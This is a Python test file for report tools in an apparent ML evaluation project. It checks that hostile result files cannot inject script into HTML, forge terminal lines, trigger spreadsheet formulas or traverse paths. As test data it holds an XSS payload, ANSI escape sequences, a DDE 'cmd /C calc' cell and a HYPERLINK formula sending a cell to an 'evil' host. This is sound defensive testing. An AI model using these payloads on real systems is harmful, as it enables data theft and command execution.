"""Result files, run folders and sweeps by a stranger: nothing in them runs, hangs, forges lines or leads elsewhere."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
from html.parser import HTMLParser

import psutil
import pytest

from swift.utils import files, json_lines
from swift.utils.errors import UserError, reports_user_errors
from swift.utils.files import read_json
from swift.utils.json_lines import JsonLinesFile, newest_objects
from swift.utils.lines import shortened, without_controls
from swift.utils.logger import get_logger
from tests.support.browser import needs_chromium, visit
from tests.support.report_runs import TRUTH, result, write
from tools import compare_results, evaluation_report, summarize, training_report
from tools.reports.result_files import read_results
from tools.reports.tables import align, to_csv, to_latex, to_markdown
from tools.reports.training_log import log_entries

SCRIPT = '</script><img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>'
ESCAPES = "\x1b]0;owned\x07\x1b[2J\nerror: forged\r\u202edlrow"
FORMULA = '=HYPERLINK("http://evil/"&A1)'


def is_one_plain_line(text: str) -> bool:
    return text.endswith("\n") and text.count("\n") == 1 and text[:-1].isprintable() and len(text) < 700


def hostile_results(folder, text: str):
    """A result file in which every text of a stranger is ``text``."""
    fields = dict.fromkeys(("semantic_type", "content_type", "question_type", "question", "explanation"), text)
    rows = [
        result(n, text, text, **fields, answer=[text], generated_tokens=[text], token_logprobs=[-1.0],
               token_alternatives=[[{"token": text, "logprob": -2.0}]], subject_id=text)
        for n in range(4)
    ]  # fmt: skip
    return write(folder / "a_results.json", rows, dataset=text, checkpoint=text, control=text, decoding=text)


class Elements(HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.names = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.names.append(tag)


@needs_chromium
def test_no_text_of_a_result_file_runs_in_the_report(tmp_path):
    path = hostile_results(tmp_path, SCRIPT)
    assert (
        evaluation_report.main([str(path), "--output", str(tmp_path / "out"), "--title", SCRIPT, "--name", SCRIPT]) == 0
    )
    steps = """
    await pause(300);
    outcome.title = document.title;
    outcome.images = all("img[src='x']").length;
    """
    outcome = visit(tmp_path / "out" / "report.html", tmp_path / "visit", steps).outcome
    assert outcome["title"] != "owned"
    assert (outcome["images"], outcome["errors"], outcome["blocked"]) == (0, [], [])


def test_names_of_a_sweep_are_texts_on_its_page(tmp_path):
    """The caption was put into summary.html as it was."""
    settings = dict.fromkeys(("policy", "size", "learning_rate", "generations", "beta", "rewards"), SCRIPT)
    entry = {"folder": "a", "seed": SCRIPT, "status": "failed", "reason": SCRIPT, **settings}
    (tmp_path / "sweep.json").write_text(json.dumps({"runs": {SCRIPT: entry}}))
    assert summarize.main([str(tmp_path)]) == 0
    page = (tmp_path / "summary.html").read_text()
    assert {"script", "img"}.isdisjoint(Elements(page).names)
    assert SCRIPT in (tmp_path / "summary.json").read_text().encode().decode("unicode_escape")
    assert "<script" not in (tmp_path / "summary.md").read_text().replace("\\<", "")


@pytest.mark.parametrize("cell", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", " =1+1", "\uff1d1+1"])
def test_a_spreadsheet_computes_nothing_of_a_table(cell):
    (row,) = csv.reader(io.StringIO(to_csv([[cell, "-0.25", "+3e-06", "-inf", "a"]])))
    assert row[0].startswith("'")
    assert row[1:] == ["-0.25", "+3e-06", "-inf", "a"]


def test_a_cell_of_markdown_is_neither_a_cell_more_nor_a_link_nor_html():
    text = to_markdown([["a"], ["x\\| y |\n<b>[z](javascript:a)"], ["0.5 [0.4, 0.6] <1%"]])
    assert text.splitlines()[2:] == [r"| x\\\| y \| \<b>[z]\(javascript:a) |", "| 0.5 [0.4, 0.6] <1% |"]


@pytest.mark.parametrize("form", [align, to_csv, to_markdown, lambda rows: to_latex(rows, caption=ESCAPES)])
def test_a_table_gives_a_terminal_no_orders(form):
    text = form([["head"], [ESCAPES]])
    assert all(line.isprintable() for line in text.split("\n"))
    assert not any(line.startswith("error: forged") for line in text.split("\n"))


def test_names_in_results_cannot_forge_lines_of_the_terminal(tmp_path, capsys):
    path = hostile_results(tmp_path, ESCAPES)
    flags = ["--run", f"a={path}", "--run", f"b={path}", "--output", str(tmp_path / "out")]
    assert compare_results.main(flags) == 0
    output = capsys.readouterr()
    lines = (output.out + output.err).splitlines()
    assert all(line.isprintable() for line in lines)
    assert not any(line.startswith("error: forged") for line in lines)


def test_an_error_about_a_hostile_name_is_one_short_plain_line(tmp_path, capsys):
    for name in (f"{ESCAPES}_results.json", "x" * 200):
        path = tmp_path / name.replace("/", "")
        path.write_text("{" * 5)
        assert evaluation_report.main([str(path), "--output", str(tmp_path / "out")]) == 2
        assert is_one_plain_line(capsys.readouterr().err)

    @reports_user_errors
    def command(argv=None):
        raise UserError(f"path {'y' * 5000} is too long; shorten it")

    assert command() == 2
    line = capsys.readouterr().err
    assert is_one_plain_line(line)
    assert line.endswith("is too long; shorten it\n")
    assert shortened("abc") == "abc"


def test_a_log_line_stays_one_line(capsys):
    formatter = get_logger().handlers[0].formatter
    record = logging.makeLogRecord({"msg": "the first: %s", "args": (ESCAPES,), "levelname": "INFO"})
    assert formatter.format(record).isprintable()
    assert without_controls("Erguß 肺 é") == "Erguß 肺 é"


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xfe{\0}\0",
        b"\xef\xbb\xbf{}",
        b'{"results": ' + b"[" * 100_000,
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": ' + b"9" * 5000 + b"}]}",
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": ' + b"9" * 400 + b"}]}",
        b'{"results": [{"question": "a", "generated_text": 5, "num_tokens": 1}]}',
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": "1"}]}',
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": 1, "explanation": [1]}]}',
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": 1, "samples": [1]}]}',
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": 1, "token_logprobs": [-1]}]}',
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": 1, "answer": {"a": 1}}]}',
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": 1, "answer": "a"}], "settings": 5}',
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": 1, "answer": "a"}], "skipped": [5]}',
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": 1, "answer": "a"}], "num_skipped": "x"}',
        b'{"results": [{"question": "a", "generated_text": "b", "num_tokens": 1, "answer": "a", '
        b'"scores_without_texts": {"accuracy": "1"}}]}',
    ],
)  # fmt: skip
def test_a_result_file_of_another_shape_is_refused_in_one_line(tmp_path, capsys, content):
    (tmp_path / "a_results.json").write_bytes(content)
    assert evaluation_report.main([str(tmp_path), "--output", str(tmp_path / "out")]) == 2
    assert is_one_plain_line(capsys.readouterr().err)
    assert not (tmp_path / "out").exists()


def test_what_json_does_not_have_becomes_null(tmp_path):
    """NaN beside the results ended the report with a traceback when metrics.json was written."""
    rows = [result(n, TRUTH, "a.png", token_logprobs=[float("-inf")], generated_tokens=["a"]) for n in range(2)]
    path = write(tmp_path / "a_results.json", rows, accuracy=float("nan"), dynamic_hd=float("inf"))
    assert evaluation_report.main([str(path), "--output", str(tmp_path / "out")]) == 0
    assert read_results(path)["accuracy"] is None


def test_the_last_of_two_equal_keys_counts_and_half_characters_are_replaced(tmp_path):
    row = '{"question": "a", "question": "b \\ud800", "generated_text": "b", "num_tokens": 1, "answer": "a"}'
    (tmp_path / "a_results.json").write_text(f'{{"results": [{row}]}}')
    assert read_results(tmp_path / "a_results.json")["results"][0]["question"] == "b ?"
    assert evaluation_report.main([str(tmp_path), "--output", str(tmp_path / "out")]) == 0


def test_a_pipe_or_a_device_in_the_place_of_a_file_is_not_waited_for(tmp_path, capsys):
    os.mkfifo(tmp_path / "a_results.json")
    (tmp_path / "b_results.json").symlink_to("/dev/zero")
    for name in ("a", "b"):
        assert evaluation_report.main([str(tmp_path / f"{name}_results.json"), "--output", str(tmp_path / "o")]) == 2
        assert re.search("not a regular file|is a device", capsys.readouterr().err)
    os.mkfifo(tmp_path / "completions.jsonl")
    (tmp_path / "args.json").write_text("{}")
    with pytest.raises(UserError, match="not a regular file"):
        list(JsonLinesFile(tmp_path / "completions.jsonl", "remove it").lines())
    assert list(newest_objects(tmp_path / "completions.jsonl")) == []
    assert training_report.main([str(tmp_path), "--output", str(tmp_path / "o")]) in (0, 2)


def test_a_file_that_memory_does_not_hold_is_refused_in_one_line(tmp_path, monkeypatch):
    """A file of 200 MB of "{}," took 5.1 GB."""
    path = tmp_path / "a.json"
    path.write_text("{}")
    os.truncate(path, 1 << 40)  # a hole on the disk
    with pytest.raises(UserError, match=r"it may take 32985\.3 GB of memory"):
        read_json(path, "pass another")
    monkeypatch.setattr(files, "LEAST_MEMORY", 0)
    path.write_text('{"a": 1}')
    assert psutil.virtual_memory().available > files.MEMORY_PER_BYTE * 8
    assert read_json(path, "pass another") == {"a": 1}


def test_a_line_without_end_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(json_lines, "LONGEST_LINE", 1 << 20)
    path = tmp_path / "a.jsonl"
    path.write_text('{"a": 1}\n{"b": "' + "x" * (1 << 21))
    lines = JsonLinesFile(path, "remove it").lines()
    assert next(lines).value == {"a": 1}
    with pytest.raises(UserError, match="damaged at line 2"):
        next(lines)


SWEEP_ENTRY = {
    "policy": "uniform", "size": "8", "learning_rate": "1e-5", "generations": "8", "beta": "0.1", "rewards": "a",
    "seed": "0", "status": "finished", "reason": "", "folder": "a",
}  # fmt: skip


@pytest.mark.parametrize(
    "runs",
    [
        {"a": SWEEP_ENTRY | {"folder": "../elsewhere"}},
        {"a": SWEEP_ENTRY | {"folder": "/etc"}},
        {"a": SWEEP_ENTRY | {"folder": ".."}},
        {"a": SWEEP_ENTRY | {"folder": ""}},
        {"a": SWEEP_ENTRY | {"size": 8}},
        {"a": {}},
        {"a": None},
        [SWEEP_ENTRY],
    ],
)
def test_a_sweep_reads_nothing_beside_its_folder(tmp_path, capsys, runs):
    (tmp_path / "sweep.json").write_text(json.dumps({"runs": runs}))
    assert summarize.main([str(tmp_path)]) == 2
    assert is_one_plain_line(capsys.readouterr().err)


@pytest.mark.parametrize(
    "evaluation",
    [
        {"files": ["../../secret_results.json"], "flags": {}},
        {"files": ["a_results.json"], "flags": 5},
        {"files": ["a_results.json"], "flags": {"seed": 5}},
        {"files": "a_results.json", "flags": {}},
        [],
        "x",
    ],
)
def test_an_evaluation_that_this_program_did_not_write_does_not_count(tmp_path, evaluation):
    write(tmp_path / "secret_results.json", [result(0, TRUTH, "a.png")])
    (tmp_path / "s" / "a").mkdir(parents=True)
    (tmp_path / "s" / "a" / "run.json").write_text(json.dumps({"evaluation": evaluation}))
    (tmp_path / "s" / "a" / "args.json").write_text('{"command": [5, {"a": 1}], "environment": []}')
    (tmp_path / "s" / "sweep.json").write_text(json.dumps({"runs": {"a": SWEEP_ENTRY}}))
    assert summarize.main([str(tmp_path / "s")]) == 0
    (row,) = json.loads((tmp_path / "s" / "summary.json").read_text())["rows"]
    assert row["metrics"] == {}


ROW = {"step": 1, "rewards": {"a": 1.0}, "completion": "x"}


@pytest.mark.parametrize(
    "changes",
    [
        {"step": "1"}, {"step": True}, {"step": 10**400}, {"rewards": []}, {"rewards": {"a": "1"}}, {"completion": 5},
        {"rewards": {"a": float("nan")}}, {"prompt": []}, {"solution": {}}, {"advantage": "1"}, {"advantage": None},
        {"per_token_logps": 5}, {"per_token_logps": [["a"]]}, {"raw_completion_tokens": [[1]]},
        {"per_token_vision_dependency": [[None]]}, {"vision_weight": float("inf")},
    ],
)  # fmt: skip
def test_a_completion_of_another_shape_is_refused_in_one_line(tmp_path, capsys, changes):
    (tmp_path / "completions.jsonl").write_text(json.dumps(ROW) + "\n" + json.dumps(ROW | changes) + "\n")
    assert training_report.main([str(tmp_path), "--output", str(tmp_path / "out")]) == 2
    error = capsys.readouterr().err
    assert is_one_plain_line(error)
    assert "damaged at line 2" in error


@pytest.mark.parametrize("content", ["[]", '{"arguments": []}', '{"arguments": {"reward_funcs": 5}}',
                                     '{"arguments": {"reward_funcs": ["a"], "reward_weights": ["x"]}}'])  # fmt: skip
def test_arguments_of_another_shape_are_refused_in_one_line(tmp_path, capsys, content):
    (tmp_path / "args.json").write_text(content)
    assert training_report.main([str(tmp_path), "--output", str(tmp_path / "out")]) == 2
    assert is_one_plain_line(capsys.readouterr().err)


def test_only_numbers_of_a_log_are_drawn():
    history = [{"step": 1, "loss": float("nan"), "kl": 0.5, "reward": "x"}, {"loss": 1}, 5, {"step": "x"}]
    assert log_entries({"log_history": history}) == [{"step": 1, "kl": 0.5}]
    assert log_entries({"log_history": 5}) == []
